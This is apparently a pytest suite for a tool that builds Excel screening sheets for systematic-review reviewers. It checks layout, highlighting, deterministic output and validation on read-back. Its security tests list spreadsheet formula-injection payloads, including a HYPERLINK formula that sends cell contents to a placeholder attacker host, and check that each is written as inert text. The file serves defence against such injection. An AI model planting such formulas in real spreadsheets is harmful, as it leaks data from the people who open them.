"""Sheets for people: layout, neutralising, highlighting, determinism and strict reading back."""

from __future__ import annotations

import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock

from reviewflow.errors import SheetError
from reviewflow.sheets import Column, highlight_pattern, neutralise, read_sheet, write_sheet

DECISION = Column("decision", "decision", width=12, choices=("include", "exclude"),
                  editable=True, required=True)
COLUMNS = [
    Column("record_id", "record_id", width=14),
    Column("title", "Title", width=60, wrap=True, highlight=True),
    Column("abstract", "Abstract", width=90, wrap=True, highlight=True),
    Column("doi", "DOI", width=30, link=True),
    Column("year", "Year", width=8),
    DECISION,
    Column("note", "note", width=30, editable=True),
]
TERMS = ["peer work*", "harm reduction", "drug use"]


def _rows(n: int = 20) -> list[dict]:
    """A small deterministic set of screening rows."""
    return [{
        "record_id": f"r{i:03d}",
        "title": f"Experiences of Peer Workers in drug use services {i}",
        "abstract": "Peer work in harm\nreduction settings; peering is not a term.",
        "doi": f"https://doi.org/10.1234/ijdp.{i}",
        "year": 2000 + i,
    } for i in range(n)]


def _write(path: Path, rows: list[dict] | None = None, **kw) -> None:
    """Write the standard test sheet."""
    write_sheet(path, COLUMNS, _rows() if rows is None else rows, title="title_abstract",
                instructions=["Screen each record.", "=not a formula"],
                highlight_terms=TERMS, **kw)


def _fill(path: Path, values: dict[int, dict[int, object]], out: Path | None = None) -> Path:
    """Play the reviewer: set cells {row: {column index: value}} and save like Excel would."""
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    for r, cells in values.items():
        for c, v in cells.items():
            ws.cell(row=r, column=c).value = v
    out = out or path
    wb.save(out)
    return out


# ------------------------------------------------------------------ layout


def test_layout(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    wb = openpyxl.load_workbook(path, rich_text=True)
    assert wb.sheetnames == ["title_abstract", "Instructions"]
    ws = wb["title_abstract"]
    assert [c.value for c in ws[1]] == [c.header for c in COLUMNS]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:G21"
    assert ws.column_dimensions["B"].width == 60
    # Dropdown on the decision column, over the data rows only.
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"include,exclude"'
    assert str(dv.sqref) == "F2:F21"
    # DOI as a hyperlink, titles wrapped.
    assert ws["D2"].hyperlink.target == "https://doi.org/10.1234/ijdp.0"
    assert ws["B2"].alignment.wrap_text
    # Reviewer's cells unlocked, context locked, sheet protected but filterable.
    assert ws.protection.sheet and not ws.protection.autoFilter
    assert ws["F2"].protection.locked is False and ws["G2"].protection.locked is False
    assert ws["A2"].protection.locked is True and ws["B2"].protection.locked is True
    assert ws["F2"].fill.fgColor.rgb != ws["A2"].fill.fgColor.rgb
    assert ws["E2"].value == 2000  # numbers stay numbers
    info = wb["Instructions"]
    assert info["A1"].value == "Screen each record."
    assert info["A2"].value == "'=not a formula"
    props = wb.properties
    assert props.creator == "reviewflow" and props.lastModifiedBy == "reviewflow"


def test_long_title_and_bare_doi(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    rows = [{"record_id": "r1", "doi": "10.1000/xyz"}, {"record_id": "r2", "doi": "javascript:x"}]
    write_sheet(path, COLUMNS, rows, title="Full text: a very long stage name [x] here")
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    assert len(ws.title) <= 31 and ":" not in ws.title and "[" not in ws.title
    assert ws["D2"].hyperlink.target == "https://doi.org/10.1000/xyz"
    assert ws["D3"].hyperlink is None  # only web links become clickable


def test_long_choice_list_goes_to_hidden_sheet(tmp_path: Path) -> None:
    reasons = tuple(f"reason {i}, with comma" for i in range(30))
    cols = [Column("record_id", "record_id"),
            Column("reason", "reason", choices=reasons, editable=True)]
    path = tmp_path / "s.xlsx"
    write_sheet(path, cols, [{"record_id": "a"}], title="ft")
    wb = openpyxl.load_workbook(path)
    assert wb["_choices"].sheet_state == "hidden"
    (dv,) = wb["ft"].data_validations.dataValidation
    assert dv.formula1 == "'_choices'!$A$1:$A$30"
    _fill(path, {2: {2: "REASON 3, with comma"}})
    assert read_sheet(path, cols).rows["a"]["reason"] == "reason 3, with comma"


# ------------------------------------------------------------------ security


DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1+2", "-2+3",
             "  =1+1", "\t=1", "\rx", "'=already quoted", "#N/A"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_neutralise(text: str) -> None:
    out = neutralise(text)
    if text == "#N/A":
        assert out == text  # not a formula; stored as text by the data type instead
    else:
        assert out == "'" + text


def test_formula_cells_are_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    rows = [{"record_id": f"r{i}", "title": t, "note": t, "year": "-5"}
            for i, t in enumerate(DANGEROUS)]
    rows.append({"record_id": "n", "year": -5})
    write_sheet(path, COLUMNS, rows, title="t", highlight_terms=["sum"])
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    ws = openpyxl.load_workbook(path).worksheets[0]
    for r, text in enumerate(DANGEROUS, start=2):
        for c in (2, 7):  # title (highlighted rich text) and note (plain)
            cell = ws.cell(row=r, column=c)
            assert cell.data_type == "s"
            # XML reads a stored CR back as LF.
            assert str(cell.value) == neutralise(text).replace("\r", "\n")
        assert ws.cell(row=r, column=5).value == "'-5"  # text "-5" is neutralised...
    assert ws.cell(row=len(rows) + 1, column=5).value == -5  # ...the number -5 is a number
    # Reading back removes exactly the quote we added (values are stripped); decide every row
    # first, as rows still pending are not returned.
    _fill(path, {r: {6: "include"} for r in range(2, len(rows) + 2)})
    got = read_sheet(path, COLUMNS)
    for i, text in enumerate(DANGEROUS):
        assert got.rows[f"r{i}"]["note"] == text.strip()
        assert got.rows[f"r{i}"]["title"] == text.strip()


def test_write_rejects_bad_keys(tmp_path: Path) -> None:
    for rows in ([{"record_id": "a"}, {"record_id": "a"}], [{"record_id": ""}]):
        with pytest.raises(ValueError):
            write_sheet(tmp_path / "s.xlsx", COLUMNS, rows, title="t")
    assert not (tmp_path / "s.xlsx").exists()


def test_nan_is_empty_and_inf_is_text(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    write_sheet(path, COLUMNS, [{"record_id": "a", "year": float("nan"), "title": float("inf")}],
                title="t")
    ws = openpyxl.load_workbook(path).worksheets[0]
    assert ws["E2"].value is None and ws["B2"].value == "inf"


def test_illegal_characters_are_dropped(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    write_sheet(path, COLUMNS, [{"record_id": "a", "title": "bad\x00\x07 char"}], title="t")
    assert openpyxl.load_workbook(path).worksheets[0]["B2"].value == "bad char"


# ------------------------------------------------------------------ highlighting


def test_highlight_pattern() -> None:
    pat = highlight_pattern(["peer work*", "harm reduction", "peer", " ", "*"])
    assert pat is not None
    text = "Peer WORKERS and peer work; peering; harm\nreduction; peer."
    assert [m.group() for m in pat.finditer(text)] == [
        "Peer WORKERS", "peer work", "harm\nreduction", "peer"]
    assert highlight_pattern([]) is None


def test_highlight_runs(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    ws = openpyxl.load_workbook(path, rich_text=True).worksheets[0]
    title = ws["B2"].value
    assert isinstance(title, CellRichText)
    bold = [b.text for b in title if isinstance(b, TextBlock) and b.font.b]
    assert bold == ["Peer Workers", "drug use"]
    assert str(title) == _rows()[0]["title"]
    block = next(b for b in title if isinstance(b, TextBlock))
    assert block.font.color.rgb.endswith("C00000")
    assert not isinstance(ws["A2"].value, CellRichText)  # only highlight columns
    abstract = ws["C2"].value
    assert [b.text for b in abstract if isinstance(b, TextBlock)] == [
        "Peer work", "harm\nreduction"]


def test_space_between_two_highlighted_terms_survives(tmp_path: Path) -> None:
    """A run of spaces alone (between two terms) is marked xml:space="preserve": a reader that trims
    unmarked runs read 'peer recovery coach' as 'peerrecovery coach'."""
    path = tmp_path / "s.xlsx"
    rows = [{"record_id": "r1", "title": "A peer recovery coach programme", "abstract": "", "doi": "", "year": ""}]
    write_sheet(path, COLUMNS, rows, title="t", highlight_terms=["peer", "recovery coach"])
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert '<t xml:space="preserve"> </t>' in xml
    filled = _fill(path, {2: {6: "include"}})
    assert read_sheet(filled, COLUMNS).rows["r1"]["title"] == "A peer recovery coach programme"


# ------------------------------------------------------------------ determinism


def test_byte_identical(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    _write(a)
    # A different clock for the second write: zip entry times come from time.time().
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 86400 * 400 + 7)
    _write(b)
    monkeypatch.undo()
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as zf:
        assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in zf.infolist())
        assert all(i.compress_type == zipfile.ZIP_DEFLATED for i in zf.infolist())
        core = zf.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2
    assert "<dc:creator>reviewflow</dc:creator>" in core
    assert "<cp:lastModifiedBy>reviewflow</cp:lastModifiedBy>" in core


def test_atomic_write_leaves_no_temp_files(tmp_path: Path) -> None:
    _write(tmp_path / "s.xlsx")
    assert os.listdir(tmp_path) == ["s.xlsx"]


def test_write_5000_rows(tmp_path: Path) -> None:
    cols = [Column(f"c{i}", f"Column {i}") for i in range(7)] + [
        Column("record_id", "record_id"), DECISION, Column("note", "note", editable=True)]
    rows = [{**{f"c{i}": f"value {r} {i}" for i in range(7)}, "record_id": f"r{r}"}
            for r in range(5000)]
    write_sheet(tmp_path / "big.xlsx", cols, rows, title="big")
    got = read_sheet(tmp_path / "big.xlsx", cols)
    assert len(got.pending) == 5000


def test_the_fast_cell_writer_writes_openpyxls_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """sheet_xlsx replaces openpyxl's per-cell writer for plain cells; on random sheets with every kind of
    cell (text with edge spaces, markup characters, line breaks, numbers, links, highlights, blanks) the
    file is the same, byte for byte, as openpyxl's own writer makes."""
    import random

    from openpyxl.cell import _writer as cell_writer
    from openpyxl.worksheet import _writer as worksheet_writer

    from reviewflow import sheet_xlsx

    assert worksheet_writer.write_cell is sheet_xlsx._write_cell
    rng = random.Random(17)
    pieces = ["peer work", " lead space", "trail space ", "a & b", "<tag>", "x > y", '"quoted"', "it's",
              "line\nbreak", "tab\there", "\r\n", "  ", "harm reduction", "Ünïcødé – ok", "=1+1", "-3", "10.1/x",
              "https://example.org/a?b=1&c=2", "10.1234/abc.5", "0", "#N/A"]

    def value() -> object:
        kind = rng.random()
        if kind < 0.15:
            return None
        if kind < 0.2:
            return ""
        if kind < 0.35:
            return rng.choice([0, 1, -7, 2024, 3.5, 0.1, 1e20, -0.0, 1 / 3, 123456789012345678])
        return "".join(rng.choice(pieces) for _ in range(rng.randint(1, 4)))

    for trial in range(5):
        rows = [{c.key: value() for c in COLUMNS} | {"record_id": f"r{trial}-{i}"} for i in range(60)]
        fast, stock = tmp_path / f"fast{trial}.xlsx", tmp_path / f"stock{trial}.xlsx"
        _write(fast, rows)
        monkeypatch.setattr(worksheet_writer, "write_cell", cell_writer.etree_write_cell)
        _write(stock, rows)
        monkeypatch.undo()
        assert fast.read_bytes() == stock.read_bytes(), trial


# ------------------------------------------------------------------ reading back


def test_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {2: {6: "include"}, 3: {6: " Exclude ", 7: "  off topic "}, 5: {6: "EXCLUDE"}})
    got = read_sheet(path, COLUMNS, expected_keys=[r["record_id"] for r in _rows()])
    assert list(got.rows) == ["r000", "r001", "r003"]
    assert got.rows["r000"]["decision"] == "include"
    assert got.rows["r001"] == {
        "record_id": "r001", "title": "Experiences of Peer Workers in drug use services 1",
        "abstract": "Peer work in harm\nreduction settings; peering is not a term.",
        "doi": "https://doi.org/10.1234/ijdp.1", "year": "2001", "decision": "exclude",
        "note": "off topic"}
    assert got.rows["r003"]["decision"] == "exclude"
    assert got.pending == [f"r{i:03d}" for i in range(20) if i not in (0, 1, 3)]


def test_columns_found_by_header(tmp_path: Path) -> None:
    # A reviewer reordered columns, added one, deleted a context column and a blank row.
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["My notes", "Decision", "RECORD_ID", "note"])
    ws.append(["x", "include", "a", ""])
    ws.append([None, None, None, None])
    ws.append([None, "exclude", "b", "why"])
    path = tmp_path / "s.xlsx"
    wb.save(path)
    got = read_sheet(path, COLUMNS)
    assert got.rows == {"a": {"record_id": "a", "decision": "include", "note": ""},
                        "b": {"record_id": "b", "decision": "exclude", "note": "why"}}


def _error(path: Path, **kw) -> SheetError:
    """The SheetError reading `path` raises."""
    with pytest.raises(SheetError) as info:
        read_sheet(path, COLUMNS, **kw)
    return info.value


def test_bad_choice_names_file_row_column(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    rel = Path("decisions/title_abstract/reviewer_B.xlsx")
    _write(rel)
    _fill(rel, {14: {6: "inclde"}})
    err = _error(rel)
    assert str(err) == ("decisions/title_abstract/reviewer_B.xlsx:14:decision: "
                        "'inclde' is not one of include, exclude")
    assert (err.line, err.column) == (14, "decision")


def test_unknown_key(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {4: {1: "zzz"}})
    err = _error(path, expected_keys=[r["record_id"] for r in _rows()])
    assert (err.line, err.column) == (4, "record_id")
    assert "unknown record_id 'zzz'" in str(err)


def test_duplicate_key(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {7: {1: "r001"}})
    err = _error(path)
    assert (err.line, err.column) == (7, "record_id")
    assert "also on row 3" in str(err)


def test_missing_expected_key(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    err = _error(path, expected_keys=[r["record_id"] for r in _rows()] + ["r999"])
    assert err.line is None and err.column == "record_id"
    assert "r999" in str(err)


def test_row_without_key(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {9: {1: None}})
    err = _error(path)
    assert (err.line, err.column) == (9, "record_id")


def test_missing_header(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {1: {6: "verdict"}})
    err = _error(path)
    assert (err.file, err.line, err.column) == (str(path), 1, "decision")


def test_missing_key_header(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {1: {1: "id"}})
    assert _error(path).line == 1


def test_not_an_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    path.write_text("record_id,decision\nr1,include\n")
    err = _error(path)
    assert (err.file, err.line) == (str(path), None)
    assert str(err).startswith(f"{path}: not a readable XLSX")


def test_missing_file(tmp_path: Path) -> None:
    err = _error(tmp_path / "nope.xlsx")
    assert err.line is None and "not found" in str(err)


# ------------------------------------------------------------------ identity (issue 15, blocker 2)


def test_rows_are_read_for_the_study_their_record_stands_for_today(tmp_path: Path) -> None:
    """Rows written for records that were merged since, or whose group another record represents now."""
    path = tmp_path / "s.xlsx"
    _write(path, _rows(6))
    # r000 and r001 agree, r002 and r003 disagree, r004 is decided and its group is represented by
    # new1 now, r005 was excluded by a rule since (it left the stage).
    _fill(path, {2: {6: "include"}, 3: {6: "include", 7: "same"}, 4: {6: "include"}, 5: {6: "exclude"},
                 6: {6: "exclude"}, 7: {6: "include"}})
    aliases = {"r000": "r000", "r001": "r000", "r002": "r002", "r003": "r002", "r004": "new1", "new1": "new1",
               "r005": "r005", "new2": "new2"}
    queue = ["r000", "r002", "new1", "new2"]
    got = read_sheet(path, COLUMNS, expected_keys=queue, allow_missing=True, aliases=aliases)
    assert got.rows["r000"]["decision"] == "include" and got.rows["r000"]["record_id"] == "r000"
    assert got.rows["new1"]["decision"] == "exclude" and got.rows["new1"]["record_id"] == "new1"
    assert got.merged == {"r000": ["r000", "r001"], "r002": ["r002", "r003"], "new1": ["r004"]}
    assert got.conflicting == ["r002"] and sorted(got.pending) == ["new2", "r002"]
    assert got.partial["r002"]["decision"] == ""
    assert "row 4: include; row 5: exclude" in got.partial["r002"]["note"]
    assert got.left == ["r005"]
    # Without aliases the same sheet is read as written: r005 is not in the queue.
    with pytest.raises(SheetError, match="unknown record_id 'r001'"):
        read_sheet(path, COLUMNS, expected_keys=queue, allow_missing=True)


def test_an_id_the_review_never_had_is_still_refused(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path, _rows(3))
    _fill(path, {3: {1: "zzz", 6: "include"}})
    err = _error(path, expected_keys=["r000", "r002"], allow_missing=True,
                 aliases={"r000": "r000", "r002": "r002"})
    assert (err.line, err.column) == (3, "record_id") and "'zzz' is not a record of this review" in str(err)


def test_the_first_of_two_pending_rows_gives_way_to_a_decided_one(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path, _rows(2))
    _fill(path, {2: {7: "unsure"}, 3: {6: "exclude"}})
    got = read_sheet(path, COLUMNS, aliases={"r000": "r001", "r001": "r001"})
    assert got.rows["r001"]["decision"] == "exclude" and got.pending == [] and got.conflicting == []


def test_highlights_survive_openpyxl_loaded_with_lxml_first(tmp_path: Path) -> None:
    """A user's script that imports openpyxl before reviewflow gets lxml's XML: every term is still bold."""
    import subprocess
    import sys

    code = (
        "import openpyxl, sys\n"
        "from openpyxl.cell.rich_text import TextBlock\n"
        "from reviewflow.sheets import Column, write_sheet\n"
        "assert openpyxl.xml.LXML\n"
        "cols = [Column('record_id', 'record_id'), Column('title', 'Title', highlight=True)]\n"
        "write_sheet(sys.argv[1], cols, [{'record_id': 'a', 'title': 'Peer Workers in drug use'}], title='t',"
        " highlight_terms=['peer work*', 'drug use'])\n"
        "t = openpyxl.load_workbook(sys.argv[1], rich_text=True).worksheets[0]['B2'].value\n"
        "print([b.text for b in t if isinstance(b, TextBlock) and b.font.b])\n")
    out = subprocess.run([sys.executable, "-c", code, str(tmp_path / "s.xlsx")], capture_output=True, text=True,
                         env={**os.environ, "OPENPYXL_LXML": "True"})
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "['Peer Workers', 'drug use']"


def test_every_bad_cell_of_a_sheet_is_reported_at_once(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    _write(path)
    _fill(path, {3: {6: "inclde"}, 6: {6: "maybe"}, 9: {1: "r001", 6: "include"}})
    err = _error(path)
    assert str(err) == (f"{path}: 3 problems, all listed (fix them and save the sheet again):\n"
                        "  row 3, decision: 'inclde' is not one of include, exclude\n"
                        "  row 6, decision: 'maybe' is not one of include, exclude\n"
                        "  row 9, record_id: record_id 'r001' also on row 3")
